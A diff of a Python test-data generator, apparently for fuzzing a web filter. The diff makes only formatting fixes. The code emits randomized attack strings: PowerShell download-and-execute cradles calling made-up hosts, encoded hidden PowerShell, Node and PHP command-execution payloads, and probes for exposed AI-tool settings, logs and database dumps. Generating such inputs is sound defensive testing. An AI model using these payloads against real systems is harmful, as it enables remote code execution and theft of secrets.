@@ -17,9 +17,9 @@ def windows(r: R) -> str:
     name, host = word(r), f"http://{word(r)}.com/{word(r)}"
     return r.choice(SEPARATORS) + r.choice((f"for /l %i in (1,1,{r.randint(2, 99)}) do {name}", f"for /f \"tokens=1\" %a in ('{name}') do echo %a",
         f"if exist c:\\{name} echo {name}", f"if %os%=={name} {name}", f"set {name}=dir&&%{name}%", f"%comspec% /c {name}", f"%path:~0,{r.randint(1, 9)}%",
-        f"iex (iwr {host})", f"Invoke-Expression '{name}'", f"Get-ChildItem c:\\{name} -Recurse", f"gci env:", f"gc {name}.txt|%{{$_}}",
+        f"iex (iwr {host})", f"Invoke-Expression '{name}'", f"Get-ChildItem c:\\{name} -Recurse", "gci env:", f"gc {name}.txt|%{{$_}}",
         f"powershell -nop -w hidden -enc {name}aaaaaaaaaaaaaaaa", f"(New-Object Net.WebClient).DownloadString('{host}')", f"&('i'+'ex') {name}",
-        f"[char]{r.randint(60, 120)}+[char]{r.randint(60, 120)}", "gps|select name", f"start /b {name}", f"wmic process list", f"findstr /s {name} *"))  # fmt: skip
+        f"[char]{r.randint(60, 120)}+[char]{r.randint(60, 120)}", "gps|select name", f"start /b {name}", "wmic process list", f"findstr /s {name} *"))  # fmt: skip
 
 
 def split_command(r: R) -> str:
@@ -42,9 +42,9 @@ def interpolation(r: R) -> str:
 def server_script(r: R) -> str:
     """Code for JavaScript on the server, and PHP in forms that simple patterns miss."""
     name, n = word(r), r.randint(2, 999)
-    return r.choice((f"process.exit({n})", f"require('child_process').exec('{name}')", "while(1){}", f"';for(;;);'", f"res.end('{name}')",
+    return r.choice((f"process.exit({n})", f"require('child_process').exec('{name}')", "while(1){}", "';for(;;);'", f"res.end('{name}')",
         f"global.process.mainModule.require('fs').readFileSync('{name}')", f"<?$_GET[0]('{name}')?>", f"system/*{name}*/('{name}')", f"\\passthru('{name}')",
-        f"$f='system';$f('{name}');", f"('sys'.'tem')('{name}')", f"phpinfo ();", f"<script language=php>{name}()</script>", f"echo `{name}`;",
+        f"$f='system';$f('{name}');", f"('sys'.'tem')('{name}')", "phpinfo ();", f"<script language=php>{name}()</script>", f"echo `{name}`;",
         f"php://filter/convert.iconv.UTF8.UTF7/resource={name}", f"zip://{name}.zip%23{name}"))  # fmt: skip
 
 
@@ -75,7 +75,9 @@ def split_script(r: R) -> str:
 
 def stray(r: R) -> Request:
     """Folders of tools and assistants, logs and dumps."""
-    tool = r.choice(("claude", "cursor", "aider", "codex", "gemini", "terraform", "vercel", "ansible", "azure", "gradle", word(r)))
+    tool = r.choice(
+        ("claude", "cursor", "aider", "codex", "gemini", "terraform", "vercel", "ansible", "azure", "gradle", word(r))
+    )
     year = r.randint(2015, 2026)
     path = r.choice((f"/.{tool}/settings.json", f"/.{tool}/config", f"/.{tool}/cache/state.json", "/storage/logs/laravel.log", f"/{word(r)}/debug.log",
         f"/logs/error-{year}-01-02.log", "/npm-debug.log", f"/db_backup_{year}.sql.gz", "/dump.rdb", f"/dump_{year}.7z", f"/{word(r)}.hprof", "/nohup.out",
